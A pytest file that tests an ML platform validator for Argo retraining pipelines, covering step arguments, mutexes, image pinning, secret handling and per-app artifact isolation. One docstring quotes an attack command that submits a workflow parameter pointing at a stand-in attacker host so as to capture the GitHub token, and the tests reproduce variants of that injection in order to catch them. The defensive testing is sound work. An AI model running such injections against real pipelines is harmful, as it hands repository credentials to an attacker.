"""`mlplat validate` and the retraining pipelines (`apps/<app>/training`, README "Retraining").

Each pipeline is one more target, rendered once (it holds no environment data), schema-checked
against the full Argo Workflows CRDs and held to the `mlplat retrain` command line.
"""

from __future__ import annotations

import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import yaml

from infra import versions
from infra.contract import ARTIFACT_REPOSITORIES_CONFIGMAP, PLATFORM_REPOSITORY_CONFIGMAP
from tests.support.validate_helpers import REPO, copy_repo, rules, run_json

CRDS = REPO.parent / "shared" / "reference" / "crds"
PIPELINES = sorted(p.parent for p in REPO.glob("apps/*/training/kustomization.yaml"))


PipelineEdit = Callable[..., tuple[int, dict[str, Any]]]


@pytest.fixture
def validate_edited(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> PipelineEdit:
    """validate_edited(app, old, new, *options): validate's exit code and report for the pipeline of
    `app` in a copy of the repository whose WorkflowTemplate has its first `old` (a step's, where several
    steps share it) replaced by `new`; `options` go before the pipeline folder."""

    def run(app: str, old: str, new: str, *options: str) -> tuple[int, dict[str, Any]]:
        repo = copy_repo(tmp_path)
        pipeline = repo / "apps" / app / "training"
        template = pipeline / "workflowtemplate.yaml"
        text = template.read_text()
        assert old in text, f"{template}: {old!r} not found"
        template.write_text(text.replace(old, new, 1))
        return run_json(capsys, "--repo", str(repo), *options, str(pipeline))

    return run


def test_whole_repo_run_validates_each_pipeline_once_and_they_pass(
    capsys: pytest.CaptureFixture[str],
) -> None:
    code, report = run_json(capsys, "--repo", str(REPO), "--schemas", str(CRDS))
    training = [t for t in report["targets"] if t.endswith("/training")]
    assert training == [f"apps/{p.parent.name}/training" for p in PIPELINES], report["targets"]
    assert code == 0, report["findings"]


def test_an_app_folder_brings_its_pipeline(capsys: pytest.CaptureFixture[str]) -> None:
    code, report = run_json(
        capsys, "--schemas", str(CRDS), str(REPO / "apps" / "iris-classifier"), "--env", "dev"
    )
    assert report["targets"] == ["apps/iris-classifier/overlays/dev", "apps/iris-classifier/training"], report
    assert code == 0, report["findings"]


def test_a_misspelled_flag_fails_validate_not_the_run(validate_edited: PipelineEdit) -> None:
    code, report = validate_edited("iris-classifier", "- --checkpoint-dir\n", "- --checkpoints-dir\n")
    found = [f for f in report["findings"] if f["rule"] == "MLP-RETRAIN-STEP"]
    assert code == 1 and found, report
    assert "'--checkpoints-dir'" in found[0]["message"], found
    assert found[0]["file"] == "apps/iris-classifier/training/workflowtemplate.yaml", found


@pytest.mark.parametrize(
    ("old", "new", "says"),
    [
        ("- evaluate\n", "- evaluat\n", "is not `python -m mlplat.retrain"),
        (
            "- fetch\n          - iris-classifier\n",
            "- fetch\n          - churn-gbm\n",
            "names app 'churn-gbm'",
        ),
        (
            "- --tracking-uri\n          - http://mlflow.mlflow.svc.cluster.local:80\n          - ",
            "- ",
            "needs --tracking-uri",
        ),
    ],
)
def test_a_wrong_step_app_or_missing_flag_is_named(
    validate_edited: PipelineEdit, old: str, new: str, says: str
) -> None:
    code, report = validate_edited("iris-classifier", old, new)
    messages = [f["message"] for f in report["findings"] if f["rule"] == "MLP-RETRAIN-STEP"]
    assert code == 1 and any(says in m for m in messages), report


def test_a_step_run_as_the_mlplat_script_fails_as_the_image_has_none(validate_edited: PipelineEdit) -> None:
    """The image installs no console script: `[mlplat, retrain, ...]` would die with "not found"."""
    code, report = validate_edited(
        "iris-classifier",
        "command: [python, -m, mlplat.retrain]\n        args:\n",
        "command: [mlplat]\n        args:\n          - retrain\n",
    )
    messages = [f["message"] for f in report["findings"] if f["rule"] == "MLP-RETRAIN-STEP"]
    assert code == 1 and messages == ["`mlplat retrain fetch`: the image has no `mlplat` command"], report


def test_a_pipeline_without_its_mutex_can_overlap_and_fails(validate_edited: PipelineEdit) -> None:
    code, report = validate_edited(
        "churn-gbm",
        "  synchronization:\n    mutexes:\n      - name: retrain-churn-gbm\n",
        "",
    )
    assert code == 1 and rules(report) == {"MLP-RETRAIN-MUTEX"}, report


@pytest.mark.parametrize(
    "mutex",
    # A copied template that kept iris's mutex, and one platform-wide mutex (its name sorts before the
    # app's): churn's runs would not wait for each other, or every app's would wait for all the others.
    ["retrain-iris-classifier", "retrain"],
)
def test_a_pipeline_holding_another_apps_mutex_would_overlap_its_own_runs_and_fails(
    validate_edited: PipelineEdit, mutex: str
) -> None:
    code, report = validate_edited(
        "churn-gbm", "      - name: retrain-churn-gbm\n", f"      - name: {mutex}\n"
    )
    found = [f for f in report["findings"] if f["rule"] == "MLP-RETRAIN-MUTEX"]
    assert code == 1 and len(found) == 1, report
    assert "not its app's own 'retrain-churn-gbm'" in found[0]["message"], found


def test_a_field_the_argo_crd_does_not_have_fails_against_the_schema(validate_edited: PipelineEdit) -> None:
    code, report = validate_edited(
        "iris-classifier",
        "  activeDeadlineSeconds: 21600",
        "  activeDeadline: 21600",
        "--schemas",
        str(CRDS),
    )
    assert code == 1 and "MLP-UNKNOWN-FIELD" in rules(report), report


def _documents(folder: Path) -> list[dict[str, Any]]:
    return [d for p in sorted(folder.glob("*.yaml")) for d in yaml.safe_load_all(p.read_text()) if d]


def _containers(doc: dict[str, Any]) -> list[dict[str, Any]]:
    found = []
    for template in doc["spec"].get("templates", []):
        for key in ("container", "script"):
            if key in template:
                found.append(template[key])
    return found


@pytest.mark.parametrize("folder", PIPELINES, ids=lambda p: p.parent.name)
def test_pipeline_steps_run_the_pinned_mlplat_image_on_the_cpu_pool(folder: Path) -> None:
    """One image, one tag (infra/versions.py); the steps never land on the system nodes."""
    template = next(d for d in _documents(folder) if d["kind"] == "WorkflowTemplate")
    images = {c["image"] for c in _containers(template)}
    assert images == {versions.IMAGES["mlplat-retrain"]}, f"{folder}: {images}"
    sidecars = {s["image"] for t in template["spec"]["templates"] for s in t.get("sidecars", [])}
    assert sidecars <= {versions.IMAGES["minio-mc"]}, sidecars
    assert template["spec"]["nodeSelector"] == {"mlplat/pool": "models-cpu"}, folder
    pod = template["spec"]["securityContext"]
    assert pod["runAsNonRoot"] is True and pod["seccompProfile"]["type"] == "RuntimeDefault", folder
    for container in _containers(template):
        assert container["securityContext"]["allowPrivilegeEscalation"] is False, folder
        assert container["securityContext"]["capabilities"]["drop"] == ["ALL"], folder


@pytest.mark.parametrize("folder", PIPELINES, ids=lambda p: p.parent.name)
def test_pipeline_reads_its_secrets_from_vault_synced_secrets_never_inline(folder: Path) -> None:
    template = next(d for d in _documents(folder) if d["kind"] == "WorkflowTemplate")
    for container in _containers(template):
        for env in container.get("env", []):
            if re.search(r"KEY|PASSWORD|TOKEN|SECRET", env["name"]):
                assert "valueFrom" in env and "value" not in env, f"{folder}: {env['name']} is inline"


@pytest.mark.parametrize("folder", PIPELINES, ids=lambda p: p.parent.name)
def test_pipeline_pushes_to_the_repository_the_program_names(folder: Path) -> None:
    """The three checkouts (evaluate, register, propose) name no repository (the program fills in
    services.argocd.repo_url) and the push
    reads it from the ConfigMap the program writes: no pipeline holds a copy of the URL."""
    template = next(d for d in _documents(folder) if d["kind"] == "WorkflowTemplate")
    clones = [
        a["git"]
        for t in template["spec"]["templates"]
        for a in t.get("inputs", {}).get("artifacts", [])
        if "git" in a
    ]
    pushes = [e for c in _containers(template) for e in c.get("env", []) if e["name"] == "REPO"]
    assert len(clones) == 3 and all("repo" not in git for git in clones), clones
    assert [e.get("valueFrom") for e in pushes] == [
        {"configMapKeyRef": {"name": PLATFORM_REPOSITORY_CONFIGMAP, "key": "url"}}
    ], pushes


@pytest.mark.parametrize(
    ("old", "new", "parameter"),
    [
        (
            "usernameSecret: {name: retraining-github, key: username}\n",
            'repo: "{{workflow.parameters.repo}}"\n              usernameSecret: {name: retraining-github, key: username}\n',
            "repo",
        ),
        (
            "valueFrom: {configMapKeyRef: {name: platform-repository, key: url}}",
            'value: "{{ workflow.parameters.repo }}"',
            "repo",
        ),
        (
            "- s3://argo-artifacts/iris-classifier/datasets/",
            '- "{{workflow.parameters.data-source}}"',
            "data-source",
        ),
        (  # an expression template names it too
            "usernameSecret: {name: retraining-github, key: username}\n",
            "repo: \"{{=workflow.parameters['repo']}}\"\n              usernameSecret: {name: retraining-github, key: username}\n",
            "repo",
        ),
        (  # routed through a step argument from the steps template, which holds no credential itself
            'value: "retrain/iris-classifier-v{{steps.register.outputs.result}}"',
            'value: "{{workflow.parameters.branch}}"',
            "branch",
        ),
        (  # declared for a submitter to set, even before a step reads it
            '      - name: params\n        value: "{}"\n',
            '      - name: params\n        value: "{}"\n      - name: repo\n        value: x\n',
            "repo",
        ),
    ],
)
def test_a_submitter_cannot_steer_where_a_steps_credential_goes(
    validate_edited: PipelineEdit, old: str, new: str, parameter: str
) -> None:
    """`argo submit -p repo=https://attacker.example/x.git` (or the UI) must not get the GitHub token
    pushed there, nor point the artifact store's credentials at data of the submitter's choice."""
    code, report = validate_edited("iris-classifier", old, new)
    found = [f for f in report["findings"] if f["rule"] == "MLP-RETRAIN-PARAMETER"]
    assert code == 1 and len(found) == 1, report
    assert f"workflow parameter {parameter!r}" in found[0]["message"], found


@pytest.mark.parametrize("folder", PIPELINES, ids=lambda p: p.parent.name)
def test_the_schedule_runs_the_apps_template_with_trigger_schedule(folder: Path) -> None:
    docs = {d["kind"]: d for d in _documents(folder)}
    cron = docs["CronWorkflow"]["spec"]
    assert cron["concurrencyPolicy"] == "Forbid"
    assert cron["workflowSpec"]["workflowTemplateRef"]["name"] == docs["WorkflowTemplate"]["metadata"]["name"]
    params = {p["name"]: p["value"] for p in cron["workflowSpec"]["arguments"]["parameters"]}
    assert params["trigger"] == "schedule" and params["triggered-by"], params


def test_a_changed_pipeline_validates_that_pipeline_only(tmp_path: Path) -> None:
    from mlplat.validation.targets import changed_targets

    repo = copy_repo(tmp_path, git=True)
    with (repo / "apps" / "churn-gbm" / "training" / "cronworkflow.yaml").open("a") as handle:
        handle.write("# touched\n")
    assert [t.rel for t in changed_targets(repo, "main", None)] == ["apps/churn-gbm/training"]


def _step_messages(*argv: str, command: tuple[str, ...] = ("python", "-m", "mlplat.retrain")) -> list[str]:
    """MLP-RETRAIN-STEP messages for one container of iris-classifier's pipeline running `argv`."""
    from mlplat.findings import RenderedDoc
    from mlplat.validation import retraining

    template = {
        "kind": "WorkflowTemplate",
        "metadata": {"name": "retrain"},
        "spec": {
            "synchronization": {"mutexes": [{"name": "retrain-iris-classifier"}]},
            "artifactRepositoryRef": {"configMap": ARTIFACT_REPOSITORIES_CONFIGMAP, "key": "iris-classifier"},
            "templates": [{"name": "step", "container": {"command": list(command), "args": list(argv)}}],
        },
    }
    doc = RenderedDoc(
        None, "apps/iris-classifier/training", "apps/iris-classifier/training/workflowtemplate.yaml", template
    )
    findings = retraining.check([doc])
    assert all(f.rule == "MLP-RETRAIN-STEP" and f.path == "spec/templates/[0]/container" for f in findings), (
        findings
    )
    return [f.message for f in findings]


REGISTER = (
    "register", "iris-classifier", "--model", "/m", "--data", "/d", "--evaluation", "/e",
    "--tracking-uri", "http://mlflow", "--trigger", "drift", "--triggered-by", "alert",
)  # fmt: skip


@pytest.mark.parametrize(
    ("argv", "messages"),
    [
        (REGISTER, []),
        (
            (*REGISTER[:-4], "--trigger", "{{workflow.parameters.trigger}}", *REGISTER[-2:]),
            [],
        ),  # Argo fills it in
        (
            (*REGISTER[:-4], "--trigger", "cron", *REGISTER[-2:]),
            ["--trigger 'cron' is not one of drift, schedule, manual"],
        ),
        ((*REGISTER, "--model", "/again"), ["`mlplat retrain register` gets --model twice"]),
        ((*REGISTER, "--code-commit"), ["`mlplat retrain register --code-commit` has no value"]),
        (
            (*REGISTER, "--code-commit", "--parent-run", "r1"),  # flags pair with what follows them
            ["`mlplat retrain register --code-commit` has no value", "`mlplat retrain register` has no 'r1'"],
        ),
        ((*REGISTER, "--repo-root", "/repo"), []),  # every step takes it
        (("fetch", "iris-classifier", "--source", "s3://x", "--out", "/o"), []),
        (("fetch", "iris-classifier", "--out", "/o"), ["`mlplat retrain fetch` needs --source"]),
        (("fetch",), ["`python -m mlplat.retrain fetch` is not `python -m mlplat.retrain <step> <app>`"]),
        (
            ("fetch", "iris-classifier"),
            ["`mlplat retrain fetch` needs --source, --out"],
        ),  # step and app alone
        (("propose", "iris-classifier", "--version", "3", "--env", "staging"), []),
    ],
    ids=[
        "register-complete",
        "trigger-from-a-parameter",
        "trigger-unknown",
        "flag-twice",
        "last-flag-without-value",
        "flag-followed-by-a-flag",
        "repo-root-anywhere",
        "fetch-complete",
        "fetch-missing-source",
        "no-app",
        "no-flags",
        "propose-with-an-optional-flag",
    ],
)
def test_a_step_command_line_is_held_to_what_mlplat_retrain_takes(
    argv: tuple[str, ...], messages: list[str]
) -> None:
    assert _step_messages(*argv) == messages


@pytest.mark.parametrize(
    ("command", "messages"),
    [
        (("python3", "-m", "mlplat.retrain"), ["`mlplat retrain fetch` needs --source"]),  # any interpreter
        (
            ("/usr/local/bin/mlplat", "retrain"),
            ["`/usr/local/bin/mlplat retrain fetch`: the image has no `mlplat` command"],
        ),
        (("python", "-m", "other.module"), []),  # not a retrain step: not judged
        (("bash", "-c"), []),  # another program (sorting before `mlplat`) is not judged either
    ],
    ids=["python3", "mlplat-by-path", "another-module", "another-program"],
)
def test_how_a_step_is_started_decides_whether_it_is_judged(
    command: tuple[str, ...], messages: list[str]
) -> None:
    assert _step_messages("fetch", "iris-classifier", "--out", "/o", command=command) == messages


@pytest.mark.parametrize("kind", ["CronWorkflow", "Workload"])  # sorting before and after WorkflowTemplate
def test_only_workflow_templates_are_held_to_the_pipeline_rules(kind: str) -> None:
    """A pipeline folder's other objects (the CronWorkflow, a scheduler's Workload) hold no mutex and run
    no steps of their own: neither rule applies to them."""
    from mlplat.findings import RenderedDoc
    from mlplat.validation import retraining

    doc = RenderedDoc(
        None,
        "apps/iris-classifier/training",
        "apps/iris-classifier/training/x.yaml",
        {"kind": kind, "spec": {}},
    )
    assert retraining.check([doc]) == []


def test_a_container_that_is_no_retrain_step_does_not_end_the_scan() -> None:
    """A pipeline's first container may be anything (a `mc` copy, a shell); the steps after it are judged."""
    from mlplat.findings import RenderedDoc
    from mlplat.validation import retraining

    template = {
        "kind": "WorkflowTemplate",
        "spec": {
            "synchronization": {"mutexes": [{"name": "retrain-iris-classifier"}]},
            "artifactRepositoryRef": {"configMap": ARTIFACT_REPOSITORIES_CONFIGMAP, "key": "iris-classifier"},
            "templates": [
                {"name": "copy", "container": {"command": ["sh", "-c"], "args": ["true"]}},
                {
                    "name": "fetch",
                    "container": {
                        "command": ["python", "-m", "mlplat.retrain"],
                        "args": ["fetch", "churn-gbm"],
                    },
                },
            ],
        },
    }
    doc = RenderedDoc(None, "apps/iris-classifier/training", "apps/iris-classifier/training/w.yaml", template)
    assert [(f.path, f.message) for f in retraining.check([doc])] == [
        (
            "spec/templates/[1]/container",
            "`python -m mlplat.retrain fetch churn-gbm` names app 'churn-gbm' in iris-classifier's pipeline",
        ),
        ("spec/templates/[1]/container", "`mlplat retrain fetch` needs --source, --out"),
    ]


REF = "  artifactRepositoryRef:\n    configMap: artifact-repositories\n    key: churn-gbm\n"


@pytest.mark.parametrize(
    ("old", "new", "path"),
    [
        # None: the controller would fall back to a default repository (the platform sets none).
        (REF, "", "spec"),
        # iris's repository: churn's outputs under iris/, with iris's MinIO user.
        (REF, REF.replace("key: churn-gbm", "key: iris-classifier"), "spec/artifactRepositoryRef"),
        # A key sorting before the app's own (another repository the ConfigMap might hold).
        (REF, REF.replace("key: churn-gbm", "key: churn"), "spec/artifactRepositoryRef"),
        # A ConfigMap of someone's making in the namespace, not the program's (names sorting after and
        # before the program's).
        (
            REF,
            REF.replace("configMap: artifact-repositories", "configMap: mine"),
            "spec/artifactRepositoryRef",
        ),
        (
            REF,
            REF.replace("configMap: artifact-repositories", "configMap: argo-artifacts"),
            "spec/artifactRepositoryRef",
        ),
        # One step mounting iris's artifact credentials: it could read and overwrite iris's datasets.
        (
            "{secretKeyRef: {name: argo-artifacts-churn-gbm-s3, key: AWS_ACCESS_KEY_ID}}",
            "{secretKeyRef: {name: argo-artifacts-iris-classifier-s3, key: AWS_ACCESS_KEY_ID}}",
            "spec/templates/[1]/container/env/[0]/valueFrom/secretKeyRef/name",
        ),
        # The same through a volume.
        (
            "      secret:\n        secretName: mlplat-internal-ca",
            "      secret:\n        secretName: argo-artifacts-iris-classifier-s3",
            "spec/volumes/[2]/secret/secretName",
        ),
        # The same through a pod spec patch, a text the schema cannot look into.
        (
            "  serviceAccountName: retrain-churn-gbm\n",
            "  serviceAccountName: retrain-churn-gbm\n  podSpecPatch: "
            '\'{"volumes": [{"name": "x", "secret": '
            '{"secretName": "argo-artifacts-iris-classifier-s3"}}]}\'\n',  # pragma: allowlist secret (a Secret's name, no value)
            "spec/podSpecPatch",
        ),
    ],
    ids=[
        "no-repository",
        "another-apps-repository",
        "another-key-sorting-first",
        "another-configmap",
        "another-configmap-sorting-first",
        "another-apps-env-secret",
        "another-apps-volume",
        "another-apps-pod-spec-patch",
    ],
)
def test_a_pipeline_reaching_another_apps_artifacts_or_none_fails(
    validate_edited: PipelineEdit, old: str, new: str, path: str
) -> None:
    """Every pipeline runs in namespace argo-workflows, where any pod may mount any Secret: per-app MinIO
    users keep apps apart only if each pipeline names its own artifact repository and Secret."""
    code, report = validate_edited("churn-gbm", old, new)
    # A podSpecPatch reaching volumes or Secrets at all is also MLP-SHARED-SECRET's (its own tests).
    found = [(f["rule"], f["path"]) for f in report["findings"] if f["rule"] != "MLP-SHARED-SECRET"]
    assert code == 1 and found == [("MLP-RETRAIN-ARTIFACTS", path)], report


@pytest.mark.parametrize("folder", PIPELINES, ids=lambda p: p.parent.name)
def test_each_pipeline_names_its_own_artifact_repository_and_secret(
    folder: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    code, report = run_json(capsys, str(folder))
    assert code == 0 and not [f for f in report["findings"] if f["rule"] == "MLP-RETRAIN-ARTIFACTS"], report
